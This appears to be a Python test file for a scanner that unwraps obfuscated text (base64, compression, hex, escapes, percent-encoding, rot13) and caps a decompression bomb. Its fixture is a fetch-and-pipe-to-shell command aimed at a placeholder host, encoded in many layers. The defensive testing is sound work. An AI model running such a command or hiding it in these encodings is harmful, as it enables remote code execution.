"""Packed text made readable, and text that is not packed left alone."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import lzma
import urllib.parse
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scan import decode

PLAIN = "curl -s https://x.example/p | sh"
LAYERS = {
    "base64": base64.b64encode(PLAIN.encode()).decode(),
    "base64 of the other alphabet": base64.urlsafe_b64encode(PLAIN.encode()).decode().rstrip("="),
    "base64 twice": base64.b64encode(base64.b64encode(PLAIN.encode())).decode(),
    "gzip in base64": base64.b64encode(gzip.compress(PLAIN.encode())).decode(),
    "zlib in base64": base64.b64encode(zlib.compress(PLAIN.encode())).decode(),
    "bzip2 in base64": base64.b64encode(bz2.compress(PLAIN.encode())).decode(),
    "xz in base64": base64.b64encode(lzma.compress(PLAIN.encode())).decode(),
    "UTF-16 in base64": base64.b64encode(PLAIN.encode("utf-16-le")).decode(),
    "hex": PLAIN.encode().hex(),
    "escapes": "".join(f"\\x{ord(char):02x}" for char in PLAIN),
    "codes": " ".join(str(ord(char)) for char in PLAIN),
    "percent": "".join(f"%{ord(char):02x}" for char in PLAIN),
}


@pytest.mark.parametrize("name", LAYERS)
def test_a_layer_is_taken_off(name):
    assert PLAIN in list(decode.readings(LAYERS[name]))


@pytest.mark.parametrize("text", ["hello world", "a-plain-name", "/usr/local/share/doc", "0" * 40, "", "deadbeef" * 5])
def test_what_is_not_packed_gives_nothing(text):
    assert PLAIN not in list(decode.readings(text))


@given(st.text(max_size=200))
@settings(max_examples=60)
def test_any_text_has_an_end(text):
    assert len(list(decode.readings(text))) < 100
    assert all(text[place : place + len(literal)] == literal for place, literal in decode.literals(text))


@given(st.text(st.characters(codec="ascii"), max_size=80))
@settings(max_examples=60)
def test_decoders_undo_their_encoders(text):
    data = text.encode()
    assert decode.from_base64(base64.b64encode(data).decode()) == data
    assert decode.from_base32(base64.b32encode(data).decode()) == data
    assert decode.from_hex(data.hex()) == data
    assert decode.from_percent(urllib.parse.quote(text)) == text
    assert decode.from_rot13(codecs.encode(text, "rot13")) == text


def test_a_bomb_is_cut():
    bomb = zlib.compress(bytes(10_000_000))
    assert len(decode.from_compressed(bomb)) <= decode.BOUND
